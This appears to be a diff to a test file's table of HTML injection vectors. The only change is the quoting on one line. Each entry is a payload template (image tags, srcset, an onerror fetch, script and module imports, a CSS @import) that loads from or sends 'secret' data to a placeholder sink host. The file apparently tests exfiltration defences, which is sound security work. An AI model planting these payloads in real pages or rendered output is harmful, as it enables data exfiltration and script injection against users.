@@ -12,7 +12,7 @@ VECTORS: dict[str, str] = {
     "html image": '<img src="{sink}/html-image?d=secret">',
     "html image set": '<img srcset="{sink}/srcset?d=secret 1x">',
     "picture source": '<picture><source srcset="{sink}/picture?d=secret"><img></picture>',
-    "error handler": '<img src=x onerror="fetch(\'{sink}/onerror\')">',
+    "error handler": "<img src=x onerror=\"fetch('{sink}/onerror')\">",
     "script": '<script src="{sink}/script.js"></script>',
     "module script": "<script type=module>import '{sink}/module.js'</script>",
     "style import": "<style>@import url('{sink}/import.css')</style>",
